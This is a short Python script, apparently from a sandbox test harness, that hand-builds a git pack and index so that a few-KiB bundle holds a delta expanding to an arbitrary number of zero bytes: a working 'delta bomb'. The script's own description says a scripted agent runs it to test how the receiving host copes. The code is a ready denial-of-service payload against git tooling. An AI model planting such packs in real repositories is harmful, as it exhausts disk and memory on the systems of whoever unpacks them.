"""Plant a delta bomb in a git repository: ``python3 plant_delta_bomb.py GIT_DIR RESULT_BYTES``.

Run by the scripted agent inside a session (standard library only, beside ``packs.py``). It writes a
pack and its index: a 1 MiB blob of zeros and a delta on it that builds RESULT_BYTES of zeros, then
prints the id of what the delta builds. ``git bundle create`` reuses the delta as it is, so the
bundle that reaches the host stays a few KiB.
"""

from __future__ import annotations

import binascii
import hashlib
import struct
import sys
from pathlib import Path

from packs import BLOB, OFS_DELTA, copy_all, entry, object_id, offset_encoding

BASE = 1 << 20


def zeros_id(size: int) -> bytes:
    digest = hashlib.sha1(f"blob {size}\0".encode())  # noqa: S324  # git's object id, not security
    chunk = b"\0" * (1 << 24)
    left = size
    while left:
        n = min(left, len(chunk))
        digest.update(chunk[:n])
        left -= n
    return digest.digest()


def main(git_dir: Path, result: int) -> str:
    base = entry(BLOB, b"\0" * BASE)
    delta = entry(OFS_DELTA, copy_all(BASE, result), prefix=offset_encoding(len(base)))
    body = b"PACK" + struct.pack(">II", 2, 2) + base + delta
    pack = body + hashlib.sha1(body).digest()  # noqa: S324  # the pack's own checksum
    base_id, bomb_id = object_id("blob", b"\0" * BASE), zeros_id(result)
    objects = sorted([(base_id, 12, base), (bomb_id, 12 + len(base), delta)])
    fanout = [sum(1 for oid, _, _ in objects if oid[0] <= n) for n in range(256)]
    index = b"\377tOc" + struct.pack(">I", 2) + struct.pack(">256I", *fanout)
    index += b"".join(oid for oid, _, _ in objects)
    index += b"".join(struct.pack(">I", binascii.crc32(raw)) for _, _, raw in objects)
    index += b"".join(struct.pack(">I", offset) for _, offset, _ in objects)
    index += pack[-20:]
    index += hashlib.sha1(index).digest()  # noqa: S324
    folder = git_dir / "objects" / "pack"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"pack-{pack[-20:].hex()}.pack").write_bytes(pack)
    (folder / f"pack-{pack[-20:].hex()}.idx").write_bytes(index)
    return f"{base_id.hex()} {bomb_id.hex()}"


if __name__ == "__main__":
    print(main(Path(sys.argv[1]), int(sys.argv[2])))
